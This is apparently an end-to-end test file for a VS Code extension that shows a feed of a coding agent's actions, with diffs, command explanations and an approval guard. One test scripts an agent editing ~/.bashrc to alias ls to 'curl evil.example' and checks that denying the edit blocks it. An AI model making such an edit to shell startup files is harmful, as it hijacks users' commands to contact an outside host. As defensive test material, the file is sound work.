// Shows: in a real VS Code, over the real Claude Code, the feed tells what an agent does while it does it: file edits open
// in the editor's own diff as they will be, and that is what the files then hold.

import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { answerCard, openPanel, waitForCard, waitForRow } from "./rig/panel.ts";
import { until } from "./rig/processes.ts";
import type { ModelStep } from "./rig/scripted-model.ts";
import { openStand, type Stand, unattended } from "./rig/stand.ts";
import { runCommand } from "./rig/window.ts";

let stand: Stand;
beforeAll(async () => {
  stand = await openStand("feed");
});
afterAll(() => stand?.remove());

const inWorkspace = (name: string) => join(stand.scratch.workspace, name);
const use = (tool: string, input: Record<string, unknown>): ModelStep => ({ kind: "use", tool, input });

/** Both sides of the diff editor that is in front, line by line. */
async function diffSides(): Promise<readonly [string, string]> {
  const side = async (name: "original" | "modified") => {
    const lines = stand.page.locator(`.monaco-diff-editor .editor.${name} .view-line`);
    await lines.first().waitFor({ state: "attached", timeout: 10_000 });
    const placed = await lines.evaluateAll((found) =>
      found.map((line) => ({
        top: Number.parseInt((line as HTMLElement).style.top, 10),
        text: line.textContent ?? "",
      })),
    );
    return placed
      .sort((a, b) => a.top - b.top)
      .map(({ text }) => text.replaceAll("\u00a0", " "))
      .join("\n");
  };
  return [await side("original"), await side("modified")];
}

async function openDiff(row: RegExp): Promise<readonly [string, string]> {
  await stand.panel.locator("countersign-feed button.row").filter({ hasText: row }).click();
  await stand.panel.getByRole("button", { name: "Open as diff" }).click();
  const sides = await diffSides();
  await stand.panel.locator("countersign-feed button.row").filter({ hasText: row }).click();
  return sides;
}

it("shows each edit of a real session as a diff of the file before and as the agent leaves it", async () => {
  const files = { "one.txt": "alpha\nbeta\ngamma", "all.txt": "red\nred\nblue", "cut.txt": "keep\ndrop\nkeep too" };
  for (const [name, text] of Object.entries(files)) writeFileSync(inWorkspace(name), text);
  const edit = (name: string, old_string: string, new_string: string, more: object = {}): readonly ModelStep[] => [
    use("Read", { file_path: inWorkspace(name) }),
    use("Edit", { file_path: inWorkspace(name), old_string, new_string, ...more }),
  ];
  const { results } = await unattended(stand, [
    ...edit("one.txt", "beta", "BETA $1"),
    ...edit("all.txt", "red", "green", { replace_all: true }),
    ...edit("cut.txt", "drop", ""),
    use("Write", { file_path: inWorkspace("new.txt"), content: "made\nby the agent" }),
  ]);
  expect(results.map(({ isError }) => isError)).not.toContain(true);
  await waitForRow(stand.panel, /Writes.*new\.txt/);
  for (const [name, before] of Object.entries(files)) {
    expect(await openDiff(new RegExp(`Edits.*${name}`, "s"))).toEqual([
      before,
      readFileSync(inWorkspace(name), "utf8"),
    ]);
    await runCommand(stand.page, "View: Close Editor");
  }
  expect(await openDiff(/Writes.*new\.txt/s)).toEqual(["", "made\nby the agent"]);
  await runCommand(stand.page, "View: Close Editor");
});

it("begins a turn with the person's words, and explains a command and shows what was recorded of it", async () => {
  const prompt = "Tidy the notes, and tell me what changed";
  await unattended(stand, [use("Bash", { command: "sort -u one.txt > sorted.txt" })], { prompt });
  const turn = stand.panel.locator("countersign-feed .turn").last();
  await expect.poll(() => turn.locator(".prompt").textContent(), { timeout: 10_000 }).toContain(prompt);
  await stand.panel.locator("countersign-feed button.row").filter({ hasText: "sort -u" }).click();
  await stand.panel.locator("#explain").click();
  const parts = stand.panel.locator(".explanation");
  await parts.waitFor({ timeout: 5000 });
  const texts = (await parts.locator("dt").allTextContents()).map((part) => part.trim());
  expect(texts).toEqual(["sort", "one.txt", "sorted.txt"]);
  expect((await parts.locator("dd").allTextContents()).join(" ")).toContain(
    "A file that its output takes the place of",
  );
  const record = stand.panel.locator(".record");
  await record.locator("summary").click();
  await expect.poll(() => record.locator("pre").textContent(), { timeout: 5000 }).toContain("countersign.decision");
  expect(await record.locator("pre").textContent()).toContain("sort -u one.txt > sorted.txt");
});

it("misses nothing while its panel is hidden, and shows a waiting edit as it would be", async () => {
  const { page } = stand;
  const target = join(stand.scratch.home, ".bashrc");
  writeFileSync(target, "alias ll=ls\n");
  await page.locator('.activitybar .action-label[aria-label^="Explorer"]').click();
  const session = unattended(stand, [
    use("Read", { file_path: target }),
    use("Edit", { file_path: target, old_string: "alias ll=ls", new_string: "alias ls='curl evil.example'" }),
  ]);
  const item = page.locator('.statusbar-item[id*="countersign.guard"]');
  await expect.poll(() => item.textContent(), { timeout: 20_000 }).toContain("1 waiting");
  expect(await page.locator(".activitybar .badge-content").allTextContents()).toContain("1");
  await runCommand(page, "Countersign: Open Feed");
  const panel = await openPanel(page);
  let card = await waitForCard(panel, ".bashrc");
  if ((await panel.locator("countersign-card article").textContent())?.includes("reads") === true) {
    await answerCard(panel, card, { answer: "allow-once" });
    card = await until("the card of the edit", 20_000, async () => {
      const next = await waitForCard(panel, ".bashrc");
      return next.actionId === card.actionId ? undefined : next;
    });
  }
  await panel.getByRole("button", { name: "Open as diff" }).first().click();
  expect(await diffSides()).toEqual(["alias ll=ls\n", "alias ls='curl evil.example'\n"]);
  await answerCard(panel, card, { answer: "deny" });
  await session;
  expect(readFileSync(target, "utf8")).toBe("alias ll=ls\n");
  await runCommand(page, "View: Close All Editors");
});

it("shows the same feed in an editor tab", async () => {
  const { page } = stand;
  const before = new Set(page.frames());
  await runCommand(page, "Countersign: Open Feed in an Editor Tab");
  const tab = await until("the feed in a tab", 20_000, async () => {
    for (const frame of page.frames())
      if (
        !before.has(frame) &&
        (await frame
          .locator("countersign-feed button.row")
          .count()
          .catch(() => 0)) > 0
      )
        return frame;
    return undefined;
  });
  expect(await tab.locator("#guard-state").textContent()).toContain("Guard on");
});
